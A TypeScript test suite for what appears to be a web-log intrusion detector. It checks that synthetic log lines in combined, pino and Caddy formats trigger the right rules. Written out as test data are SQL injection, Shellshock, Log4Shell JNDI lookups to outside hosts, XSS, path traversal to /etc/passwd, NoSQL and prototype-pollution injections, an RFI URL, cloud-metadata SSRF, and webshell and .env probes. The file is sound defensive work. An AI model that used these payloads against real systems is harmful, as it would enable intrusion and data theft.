// Where payloads sit: the target, User-Agent, Referer (combined and JSON logs), cookies and other
// headers, JSON/form/XML bodies, and the user name of a login. Probes of software a site may run count
// only when the server did not serve the path.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { securitySchema } from '../../../src/config/schema/security.js';
import { Detector } from '../../../src/logs/detect/detector.js';

function fired(line: string, cfg = {}): string[] {
  const d = new Detector(securitySchema.parse(cfg));
  return d.inspect({ app: 'a', source: 's', line, readAt: Date.UTC(2024, 9, 10) }, 'auto').map((e) => `${e.kind}/${e.rule} @ ${/in (.*?)(?: of |$)/.exec(e.message)?.[1]}`);
}
const clf = (url: string, status = 200, referer = '-', ua = 'Mozilla/5.0') => `192.0.2.9 - - [10/Oct/2024:13:55:36 +0000] "GET ${url} HTTP/1.1" ${status} 12 "${referer}" "${ua}"`;
const pino = (req: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
  JSON.stringify({ level: 30, time: 1728568536000, req: { method: 'GET', url: '/', remoteAddress: '::ffff:192.0.2.9', ...req }, res: { statusCode: 200 }, msg: 'request completed', ...extra });

test('combined log: the Referer and the User-Agent are read, including escaped quotes', () => {
  assert.deepEqual(fired(clf('/', 200, "https://shop.example/?q=1' AND SLEEP(5)-- -")), ['sqli/sqli-time-delay @ referer']);
  assert.deepEqual(fired(clf('/', 200, '-', '() { :; }; /bin/bash -c \\"id\\"')), ['command-injection/command-injection-shellshock @ user-agent']);
  assert.deepEqual(fired(clf('/', 200, '-', 'sqlmap/1.7.2#stable (https://sqlmap.org)')), ['scanner/scanner-user-agent @ user-agent']);
});

test('JSON log: headers, cookies, referer and bodies of a pino-http request are read', () => {
  assert.deepEqual(fired(pino({ headers: { 'user-agent': '${jndi:ldap://198.51.100.1/a}' } })), ['code-injection/log4shell @ user-agent']);
  assert.deepEqual(fired(pino({ headers: { cookie: 'theme=dark; pref=%3Cscript%3Ealert(1)%3C%2Fscript%3E' } })), ['xss/xss-script-tag @ cookie "pref"']);
  assert.deepEqual(fired(pino({ headers: { referer: 'https://x.example/?next=../../../../etc/passwd' } })), ['traversal/traversal-dot-dot @ referer']);
  assert.deepEqual(fired(pino({ headers: { 'x-forwarded-for': '${jndi:dns://198.51.100.1/x}' } })), ['code-injection/log4shell @ header "x-forwarded-for"']);
  assert.deepEqual(fired(pino({ method: 'POST', url: '/api/login', body: { username: 'admin', password: { $gt: '' } } })), ['sqli/sqli-nosql-operator @ body "password.$gt"']);
  assert.deepEqual(fired(pino({ method: 'POST', url: '/search', body: 'q=1%27+UNION+SELECT+NULL%2Cversion()--' })), ['sqli/sqli-union-select @ body "q"']);
  assert.deepEqual(fired(pino({ method: 'POST', url: '/api/xml', body: '<r><name>;cat /etc/passwd</name></r>' })).sort(), ['command-injection/command-injection-separator @ body', 'traversal/traversal-os-file @ body']);
});

test('Caddy JSON: canonical-case headers whose values are arrays (Referer, Cookie, User-Agent in any case)', () => {
  const caddy = (headers: Record<string, string[]>) => JSON.stringify({ level: 'info', ts: 1728568536.1, logger: 'http.log.access', msg: 'handled request',
    request: { remote_ip: '192.0.2.9', proto: 'HTTP/1.1', method: 'GET', host: 'x', uri: '/', headers }, status: 200 });
  assert.deepEqual(fired(caddy({ 'User-Agent': ['Mozilla/5.0'], Referer: ['https://x/?q=1%27%20union%20select%20password%20from%20users--'] })), ['sqli/sqli-union-select @ referer']);
  assert.deepEqual(fired(caddy({ 'User-Agent': ['Mozilla/5.0'], Cookie: ['id=1; q=<script>alert(1)</script>'] })), ['xss/xss-script-tag @ cookie "q"']);
  assert.deepEqual(fired(caddy({ 'USER-AGENT': ['() { :; }; /bin/bash -c "id"'] })), ['command-injection/command-injection-shellshock @ user-agent']);
  assert.deepEqual(fired(caddy({ 'User-Agent': ['Mozilla/5.0'], Referer: ['https://x/products?id=2'] })), []);
});

test('query strings: user[$ne]=, __proto__[x]=, a URL of a known RFI parameter', () => {
  assert.deepEqual(fired(clf('/api/users?user[$ne]=x&pass[$ne]=y')), ['sqli/sqli-nosql-operator @ query name "user[$ne]"']);
  assert.deepEqual(fired(clf('/show.php?mosConfig_absolute_path=https://evil.example/')), ['rfi/rfi-include-parameter @ query "mosConfig_absolute_path"']);
  assert.deepEqual(fired(clf('/api?__proto__[admin]=1')), ['code-injection/prototype-pollution @ query name "__proto__[admin]"']);
});

test('the user name of a failed login is judged (JSON event and sshd)', () => {
  assert.deepEqual(fired('{"event":"login_failed","user":"\' or 1=1--","ip":"192.0.2.9","time":"2024-10-10T00:00:00Z"}'), ['sqli/sqli-boolean @ user']);
  assert.deepEqual(fired('{"event":"login_failed","user":"${jndi:ldap://x/a}","ip":"192.0.2.9","time":"2024-10-10T00:00:00Z"}'), ['code-injection/log4shell @ user']);
  assert.deepEqual(fired('{"event":"login_failed","user":"o\'brien","ip":"192.0.2.9","time":"2024-10-10T00:00:00Z"}'), []);
});

test('entry points (wp-login.php, phpMyAdmin, admin.php) count only when the server did not serve them; secrets always', () => {
  for (const path of ['/wp-login.php', '/phpmyadmin/', '/admin.php', '/fckeditor/editor/filemanager/']) {
    assert.equal(fired(clf(path, 404)).length, 1, `${path} 404`);
    assert.deepEqual(fired(clf(path, 200)), [], `${path} 200`);
  }
  assert.deepEqual(fired(clf('/.env', 200)), ['sensitive-file/sensitive-env-file @ path']);
  assert.deepEqual(fired(clf('/wso.php', 200)), ['sensitive-file/probe-webshell @ path']);
  assert.deepEqual(fired(clf('/.env', 404), { ignorePaths: ['/.env'] }), []);
});

test('absolute-form targets (proxy abuse) at a cloud metadata address are SSRF', () => {
  assert.deepEqual(fired(clf('http://169.254.169.254/latest/meta-data/')), ['rfi/ssrf-cloud-metadata @ path']);
});

test('probes feed the probes threshold: three new-style probes from one address in a minute', () => {
  const d = new Detector(securitySchema.parse({}));
  const rules: string[] = [];
  ['/phpMyAdmin-5.2.1/', '/wso.php', '/config/database.yml'].forEach((p, i) => {
    for (const e of d.inspect({ app: 'a', source: 's', line: clf(p, 404).replace('13:55:36', `13:55:${36 + i}`), readAt: 0 }, 'auto')) rules.push(e.rule);
  });
  assert.deepEqual(rules, ['probe-phpmyadmin', 'probe-webshell', 'sensitive-framework-secret', 'probes']);
});
